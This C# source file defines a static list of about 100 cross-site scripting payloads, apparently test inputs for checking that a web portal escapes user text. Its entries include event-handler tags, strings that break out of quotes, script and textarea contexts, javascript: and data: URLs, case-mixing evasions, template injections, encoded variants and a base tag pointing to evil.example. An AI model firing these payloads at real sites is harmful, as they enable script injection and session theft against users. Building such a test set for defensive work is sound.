namespace AcmPortal.Browser;

/// <summary>100 texts that run a script, or take a visitor to one, where they are taken for more than a text.</summary>
internal static class ScriptTexts
{
    private const string Run = "window.pwned=1";

    public static IReadOnlyList<string> All { get; } =
    [
        // What runs by itself, by element and event.
        .. new[] { "img src=x onerror", "image src=x onerror", "svg onload", "body onload", "iframe onload", "video src=x onerror", "audio src=x onerror", "video><source onerror", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "button autofocus onfocus", "details open ontoggle", "marquee onstart",
            "object data=x onerror", "embed src=x onload", "link rel=stylesheet href=x onerror", "script src=x onerror", "svg><animate onbegin", "svg><set onbegin", "div tabindex=1 autofocus onfocus", "style onload", "form><input autofocus onfocus", "a href=# autofocus onfocus", "body onpageshow" }
            .SelectMany(e => new[] { $"<{e}={Run}>", $"\"><{e}='{Run}'>" }),
        // Out of where a text may stand.
        .. new[] { "'", "\"", "`", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>", "</option></select>", "</noscript>", "*/", "\\\"", "\\u003e", "&quot;&gt;" }
            .SelectMany(q => new[] { $"{q}><script>{Run}</script>", $"{q} onmouseover={Run} autofocus onfocus={Run} x={q}" }),
        // Addresses, other spellings, templates.
        "javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", "java\tscript:window.pwned=1", " javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>", "vbscript:window.pwned=1", "<a href=javascript:window.pwned=1>x</a>", "[x](javascript:window.pwned=1)",
        "<sCrIpT>window.pwned=1</sCrIpT>", "<script\n>window.pwned=1</script\n>", "<scr<script>ipt>window.pwned=1</scr</script>ipt>", "<svg><script>window.pwned=1</script></svg>", "<math><mi xlink:href=javascript:window.pwned=1>", "<iframe srcdoc='<script>parent.pwned=1</script>'>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:window.pwned=1'>", "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "<!--Blazor:{\"type\":\"server\"}-->", "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    ];
}
